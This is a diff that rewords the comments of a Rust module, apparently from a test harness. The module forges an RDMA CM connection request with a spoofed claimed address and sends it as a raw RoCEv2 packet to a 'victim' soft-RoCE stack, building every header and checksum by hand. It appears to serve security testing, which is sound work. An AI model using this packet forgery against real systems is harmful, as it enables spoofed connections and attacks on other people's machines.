@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0
-//! A connection request that no CM sends: it says that it comes from another address than its path. It goes to
-//! the victim's soft-RoCE as a datagram, so it must come from another machine.
+//! A connection request that no CM sends: it claims to come from another address than its path. It
+//! goes to the victim's soft-RoCE as a datagram, so it must come from another machine.
 
 use crate::cm::errno_fail;
 use crate::fail::{expect, Result};
@@ -9,14 +9,14 @@ use std::net::{Ipv4Addr, SocketAddrV4};
 use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
 use std::process;
 
-/// Bytes of a management datagram, and of its header.
+/// The numbers of bytes of a management datagram and of its header.
 const MAD: usize = 256;
 const MAD_HEADER: usize = 24;
 /// The UDP port of RoCEv2.
 const ROCE_PORT: u16 = 4791;
 
-/// Sends the victim at `to` a request whose path leads to `own`, this machine's address, and that says it comes
-/// from `claimed`.
+/// Sends the victim at `to` a request whose path leads to `own`, the address of this machine, and
+/// that claims to come from `claimed`.
 pub(crate) fn forge(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> Result<()> {
     let packet = packet(own, *to.ip(), &request(to, own, claimed));
     // SAFETY: plain numbers.
@@ -57,8 +57,8 @@ fn put(to: &mut [u8], at: usize, bytes: &[u8]) {
     to[at..at + bytes.len()].copy_from_slice(bytes);
 }
 
-/// The request (REQ of the InfiniBand CM, `include/rdma/ibta_vol1_c12.h` in the kernel), with the private data
-/// of the RDMA CM (`struct cma_hdr`) and a valid Hello.
+/// The request (REQ of the InfiniBand CM, `include/rdma/ibta_vol1_c12.h` in the kernel), with the
+/// private data of the RDMA CM (`struct cma_hdr`) and a valid Hello.
 fn request(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> [u8; MAD] {
     const RDMA_PS_TCP: u64 = 0x0106;
     let mut mad = [0; MAD];
@@ -70,24 +70,24 @@ fn request(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> [u8; MAD] {
     put(&mut mad, 16, &0x0010_u16.to_be_bytes());
 
     let mut req = [0; MAD - MAD_HEADER];
-    // The ids of the connection and of the machine, and the queue pair, in 24 bits.
+    // The ids of the connection and of the machine, and the number of the queue pair in 24 bits.
     put(&mut req, 0, &number.to_be_bytes());
     let service = (RDMA_PS_TCP << 16) | u64::from(to.port());
     put(&mut req, 8, &service.to_be_bytes());
     put(&mut req, 16, &0xbad_u64.to_be_bytes());
     put(&mut req, 32, &((number << 8) | 1).to_be_bytes());
-    // The other side's Reads at a time.
+    // The number of Reads at a time.
     req[39] = 1;
-    // Times to wait for answers, and numbers of repetitions: bits.
+    // The time-outs for answers, and numbers of retries, as bit fields.
     req[43] = 20 << 3;
     req[47] = (20 << 3) | 6;
-    // The partition, the size of packets (1024 bytes), and repetitions again.
+    // The partition, the packet size (1024 bytes), and more numbers of retries.
     put(&mut req, 48, &[0xff, 0xff, (3 << 4) | 7, 15 << 4]);
-    // The path: from us to the victim, within a subnet.
+    // The path from this machine to the victim, within a subnet.
     put(&mut req, 56, &own.to_ipv6_mapped().octets());
     put(&mut req, 72, &to.ip().to_ipv6_mapped().octets());
     put(&mut req, 93, &[64, 1 << 3, 18 << 3]);
-    // IP version 4, our port and the addresses, the last 4 bytes of 16 each.
+    // IP version 4, the port of this side, and the addresses, each in the last 4 bytes of 16.
     let private = 140;
     put(&mut req, private + 1, &[4 << 4]);
     put(&mut req, private + 2, &4711_u16.to_be_bytes());
@@ -100,12 +100,12 @@ fn request(to: SocketAddrV4, own: Ipv4Addr, claimed: Ipv4Addr) -> [u8; MAD] {
 
 /// The whole IP packet of a datagram from queue pair 1 to queue pair 1.
 fn packet(from: Ipv4Addr, to: Ipv4Addr, mad: &[u8; MAD]) -> Vec<u8> {
-    // IP, UDP, the headers of a datagram (BTH, DETH), and the checksum behind the payload.
+    // IP, UDP, the headers of a datagram (BTH, DETH), the payload, and the checksum.
     const LEN: usize = 20 + 8 + 12 + 8 + MAD + 4;
     let mut ip = [0; 20];
     put(&mut ip, 0, &[0x45, 0]);
     put(&mut ip, 2, &(LEN as u16).to_be_bytes());
-    // An identification, no fragments.
+    // An identification, and no fragments.
     put(&mut ip, 4, &[0x5d, 0xb0, 0x40, 0]);
     put(&mut ip, 8, &[64, libc::IPPROTO_UDP as u8]);
     put(&mut ip, 12, &from.octets());
@@ -116,17 +116,17 @@ fn packet(from: Ipv4Addr, to: Ipv4Addr, mad: &[u8; MAD]) -> Vec<u8> {
     put(&mut udp, 4, &((LEN - 20) as u16).to_be_bytes());
     // A single datagram, in the default partition, for queue pair 1.
     let bth = [0x64, 0, 0xff, 0xff, 0, 0, 0, 1, 0, 0, 0, 0];
-    // The key of queue pair 1, which is the sender, too.
+    // The key of queue pair 1, and queue pair 1 as the sender.
     let deth = [0x80, 1, 0, 0, 0, 0, 0, 1];
     let check = invariant_crc(&ip, &udp, &bth, &[&deth, mad]);
     [&ip[..], &udp, &bth, &deth, mad, &check.to_le_bytes()].concat()
 }
 
-/// The checksum of what routers do not change (ICRC): what they may change counts as ones, and in front are
-/// eight bytes of ones.
+/// The checksum of the fields that routers do not change (ICRC). Fields that routers may change
+/// count as ones, and eight bytes of ones precede the packet.
 fn invariant_crc(ip: &[u8; 20], udp: &[u8; 8], bth: &[u8; 12], rest: &[&[u8]]) -> u32 {
     let (mut ip, mut udp, mut bth) = (*ip, *udp, *bth);
-    // The class, the hops, the checksums; and a reserved byte.
+    // The traffic class, the time to live, the checksums, and a reserved byte.
     for at in [1, 8, 10, 11] {
         ip[at] = 0xff;
     }
